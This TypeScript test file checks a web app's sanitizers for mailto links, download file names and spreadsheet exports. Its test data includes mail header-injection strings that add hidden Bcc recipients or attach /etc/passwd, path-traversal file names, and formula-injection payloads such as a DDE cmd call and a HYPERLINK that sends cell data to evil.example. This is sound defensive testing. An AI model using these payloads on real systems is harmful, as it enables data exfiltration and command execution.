import writeExcelFile from 'write-excel-file/node';
import { describe, expect, it } from 'vitest';
import { read, utils } from 'xlsx';
import { mailAddress } from './core/actions/mail-address.ts';
import { safeAddress } from './core/address/safe-address.ts';
import { exportSheet } from './core/export/export-sheet.ts';
import { safeFileName } from './core/export/save-file.ts';
import { safeCell, toCsv } from './core/export/to-csv.ts';
import { objectReader } from './core/scope/DataReader.ts';

/** The parts that a mail program reads from an address. */
function mailOf(address: string): { readonly to: string; readonly fields: ReadonlyMap<string, string> } {
  const [to = '', query = ''] = address.replace(/^mailto:/i, '').split('?');
  const fields = (query === '' ? [] : query.split('&')).map(
    (field) => field.split('=').map(decodeURIComponent) as [string, string],
  );
  return { to: decodeURIComponent(to), fields: new Map(fields.map(([name, value]) => [name.toLowerCase(), value])) };
}

describe('mail addresses', () => {
  it.each([
    'mailto:a@lab.example?bcc=evil@evil.example',
    'mailto:a@lab.example?BCC=evil@evil.example',
    'mailto:a@lab.example?subject=x&bcc=evil@evil.example',
    'mailto:a@lab.example?subject=x&amp;bcc=evil@evil.example',
    'mailto:a@lab.example?subject=x?bcc=evil@evil.example',
    'MAILTO:?to=evil@evil.example',
    'mailto:a@lab.example?attach=/etc/passwd',
    'mailto:a@lab.example?attachment=C:%5Csecret',
    'mailto:a@lab.example?in-reply-to=x&from=dean@lab.example&b%63c=evil@evil.example',
    'mailto:a@lab.example%0D%0ABcc:evil@evil.example',
    'mailto:a@lab.example?subject=x%0D%0ABcc:evil@evil.example',
    'mailto:a@lab.example?subject=x%0d%0aBcc:evil@evil.example',
    'mailto:a@lab.example?cc=b@lab.example%0ABcc:evil@evil.example',
    'mailto:a@lab.example?subject=x\r\nBcc:evil@evil.example',
    'mai\tlto:a@lab.example?bcc=evil@evil.example',
  ])('%j gets no hidden recipient, attachment or header', (given) => {
    const safe = safeAddress(given) ?? '';
    const { to, fields } = mailOf(safe);
    expect([...fields.keys()].filter((name) => !['', 'cc', 'subject', 'body'].includes(name))).toEqual([]);
    expect([to, fields.get('cc'), fields.get('subject')].join('')).not.toMatch(/[\r\n]/);
    expect(to.startsWith('a@lab.example') || to === '').toBe(true);
  });

  it.each([
    'mailto:a@lab.example',
    'mailto:a@lab.example,b@lab.example?cc=c@lab.example&subject=Room%207&body=One%0D%0ATwo',
    'mailto:?subject=x',
  ])('%s stays unchanged', (address) => {
    expect(safeAddress(address)).toBe(address);
  });

  it.each(['to', 'cc', 'bcc', 'subject'])('an action writes no line break into %s, whatever the data contains', (name) => {
    const { to, fields } = mailOf(mailAddress({ [name]: 'a@lab.example\r\nBcc: evil@evil.example\u2028X: y' }));
    expect([to, ...fields.values()].join('')).not.toMatch(/[\r\n\u2028]/);
    expect([...fields.keys()].filter((key) => key !== '' && key !== name)).toEqual([]);
  });

  it.each(['to', 'cc', 'bcc', 'subject', 'body'])('an action does not let %s start another field', (name) => {
    const { to, fields } = mailOf(mailAddress({ [name]: 'a@lab.example?bcc=evil@evil.example&attach=x#y' }));
    expect([to, ...fields.values()].filter((text) => text.includes('evil'))).toHaveLength(1);
    expect(fields.has('attach')).toBe(false);
    expect(fields.has('bcc')).toBe(name === 'bcc');
  });
});

describe('file names', () => {
  it.each([
    '../../etc/passwd',
    '..\\..\\Windows\\System32\\drivers\\etc\\hosts',
    'C:\\autoexec',
    '/root/.ssh/authorized_keys',
    '....//x',
    '.htaccess',
    'a/b/../c',
    'a\u0000.txt',
    'list.xlsx:stream',
    '  ..  ',
    '',
  ])('%j contains no path', (name) => {
    expect(safeFileName(name)).toMatch(/^[^./\\:\0][^/\\:\0]*$/);
  });

  it.each([
    ['marks.exe', 'marks.exe.txt'],
    ['marks.EXE', 'marks.EXE.txt'],
    ['marks.csv.bat', 'marks.csv.bat.txt'],
    ['marks.exe.', 'marks.exe.txt'],
    ['marks\u202Excod.scr', 'marksxcod.scr.txt'],
    ['marks.e\u200Bxe', 'marks.exe.txt'],
    ['page.html', 'page.html.txt'],
    ['page.xhtml', 'page.xhtml.txt'],
    ['drawing.svg', 'drawing.svg.txt'],
    ['go.url', 'go.url.txt'],
    ['go.lnk', 'go.lnk.txt'],
    ['x.hta', 'x.hta.txt'],
    ['x.ps1', 'x.ps1.txt'],
    ['x.library-ms', 'x.library-ms.txt'],
    [`${'a'.repeat(300)}.js`, `${'a'.repeat(197)}.js.txt`],
  ])('%j is saved as %j, which cannot be run', (name, saved) => {
    expect(safeFileName(name)).toBe(saved);
  });

  it.each(['CON', 'nul.txt', 'Com1.csv', 'lpt9'])('%s is not saved as a device name', (name) => {
    expect(safeFileName(name)).toBe(`_${name}`);
  });

  it.each(['marks.csv', '成绩 2026.xlsx', 'report.v1.pdf', 'exe', 'a.zip', 'console.txt', 'data.json'])(
    '%s stays unchanged',
    (name) => {
      expect(safeFileName(name)).toBe(name);
    },
  );
});

const formulas = [
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://evil.example?"&A1,"open")',
  '+1+cmd|x',
  '-1+cmd|x',
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n@x',
  ' =1+1',
  '\u00A0=1+1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '＝1+1',
  '＋1＋cmd',
  '－1',
  '＠x',
  '--1',
  '-5-3',
  '+(1)',
];
const harmless = [
  '-5',
  '+8613800000000',
  '-2.5',
  '-1,234.50',
  '-1.5e-7',
  '+7%',
  '-',
  '--',
  'a=b',
  '(=1)',
  '3-4',
  "'=1",
  '',
  '王小明',
  'a@b.c',
];

describe('exports', () => {
  const columns = [
    { label: '=HEAD()', node: { name: 'a' } },
    { label: 'B', node: { name: 'b', type: 'tpl', tpl: '${a}' } },
    { label: 'C', node: { name: 'c', type: 'mapping', map: { '*': '${a}' } } },
  ];
  const book = async (rows: readonly Readonly<Record<string, unknown>>[], of: typeof columns | readonly object[] = columns) => {
    const sheet = exportSheet({ columns: of as typeof columns, rows, reader: objectReader({}), warn: () => undefined });
    const bytes = await writeExcelFile(sheet.map((row) => [...row])).toBuffer();
    const { Sheets, SheetNames } = read(bytes, { cellFormula: true });
    return Sheets[SheetNames[0] ?? ''] ?? {};
  };

  it.each(formulas)('write %j with a leading apostrophe into a CSV file', (cell) => {
    expect(safeCell(cell)).toBe(`'${cell}`);
    const written = `"'${cell.replaceAll('"', '""')}"`;
    expect(toCsv([cell], [[cell, 'x']]).replaceAll(/^\uFEFF/g, '')).toMatch(/^"?'/);
    expect(toCsv(['A'], [['"', cell]])).toContain(/[",\r\n]/.test(cell) ? written : `,'${cell}\r\n`);
  });

  it.each(harmless)('write %j unchanged into a CSV file', (cell) => {
    expect(safeCell(cell)).toBe(cell);
  });

  it('write no formula into a workbook, and no cell that becomes one when edited', async () => {
    const sheet = await book(formulas.map((a) => ({ a })));
    const cells = Object.entries(sheet).filter(([key]) => /^[A-Z]+\d+$/.test(key));
    expect(cells.length).toBeGreaterThan(formulas.length * 2);
    for (const [key, cell] of cells as [string, { f?: string; t: string; v: unknown }][]) {
      expect([key, cell.f]).toEqual([key, undefined]);
      expect([key, /^[\s\u200B]*[=+\-@＝＋－＠]/.test(String(cell.v))]).toEqual([key, false]);
    }
    expect(sheet['A1']).toMatchObject({ v: "'=HEAD()" });
  });

  it('write numbers as numbers and digits in text as text into a workbook', async () => {
    const rows = [-5, 0.1, 1e-7, 12_345_678_901_234_567_000, '-5', '007', '+8613800000000', null, true].map((a) => ({ a }));
    const sheet = await book(rows, [
      { label: 'A', node: { name: 'a' } },
      { label: 'N', node: { name: 'a', type: 'number', precision: 2 } },
    ]);
    const cells = utils.sheet_to_json<unknown[]>(sheet, { header: 1, raw: true, defval: '' }).slice(1);
    expect(cells.map(([value]) => value)).toEqual([
      -5,
      0.1,
      1e-7,
      '12345678901234567000',
      '-5',
      '007',
      '+8613800000000',
      '',
      'true',
    ]);
    expect(cells.slice(0, 2).map(([, value]) => value)).toEqual([-5, 0.1]);
  });
});
